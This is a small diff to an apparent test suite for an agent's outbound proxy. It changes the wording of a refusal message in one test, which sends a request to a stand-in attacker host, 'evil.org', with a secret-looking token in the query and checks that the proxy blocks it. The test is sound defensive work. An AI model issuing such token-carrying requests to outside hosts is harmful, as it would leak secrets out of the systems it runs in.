@@ -244,5 +244,5 @@ async def test_a_server_that_is_not_there_is_told_and_is_no_refusal(proxy: Asked
 
 async def test_a_refusal_names_the_reason_to_the_agent_and_no_more_than_the_host_to_the_log(proxy: Asked) -> None:
     answer = await proxy.say(b"GET http://evil.org/secret?token=x HTTP/1.1\r\n\r\n")
-    assert b"no entry covers evil.org" in answer
-    assert [str(refusal) for refusal in proxy.told] == ["http://evil.org: no entry covers evil.org"]
+    assert b"no entry names evil.org" in answer
+    assert [str(refusal) for refusal in proxy.told] == ["http://evil.org: no entry names evil.org"]
